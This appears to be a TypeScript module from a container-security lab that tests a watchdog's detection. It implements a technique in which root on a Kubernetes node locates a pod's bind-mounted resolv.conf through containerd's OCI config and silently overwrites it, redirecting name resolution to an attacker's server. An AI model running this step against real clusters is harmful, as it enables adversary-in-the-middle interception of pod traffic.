/**
 * Attack (T1565.001 Stored Data Manipulation, T1557 Adversary-in-the-Middle
 * by name resolution): root on the node rewrites a running pod's
 * resolv.conf (or hosts, hostname) where the runtime keeps it, the bind
 * source named in the container's OCI config. The container resolves names
 * through the attacker's server at once; no mount changes, so a mount diff
 * sees nothing. The same effect through a tmpfs over /etc is already
 * treated as critical (etc-tmpfs-resolver).
 */
import { awaitWatchdogAlerts, watchdogGraceMs } from '../../watchdog/index.ts';
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, requirePod, type AttackErrorCode } from './common.ts';
import { readInContainer } from './start.ts';

export const sandboxFileRewrite: Technique = {
  name: 'sandbox-file-rewrite',
  async run({ node, attack, pods }) {
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const pod = requirePod(pods, attack);
    const id = pod.containers[0]!.id;
    const spec = JSON.parse((await node.readFile(`/run/containerd/io.containerd.runtime.v2.task/k8s.io/${id}/config.json`)).toString()) as { mounts?: { destination: string; source?: string }[] };
    const source = spec.mounts?.find((m) => m.destination === path)?.source;
    if (!source) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `${pod.namespace}/${pod.name} binds nothing on ${path}`);
    const since = new Date();
    await node.run(['sh', '-c', 'printf "%s\\n" "$2" > "$1"', 'sh', source, payload]);
    const grace = watchdogGraceMs(node, 'mount', pod.namespace);
    const alerts = grace ? await awaitWatchdogAlerts(node, { since, timeoutMs: grace, predicate: (a) => a.container === id && a.reasons.includes('sandbox-file-changed') }) : [];
    const seen = await readInContainer(node, pod, path);
    const evidence = { source, written: payload, contentSeen: seen.content.toString(), watchdogAlerts: alerts.map((a) => a.reason) };
    return seen.content.toString().trim() === payload
      ? { effect: true, reason: `root rewrote ${source} on the node and ${pod.namespace}/${pod.name} reads the attacker's ${path}`, evidence }
      : { effect: false, reason: `the rewrite of ${source} is not visible in the container's ${path}`, evidence };
  },
};
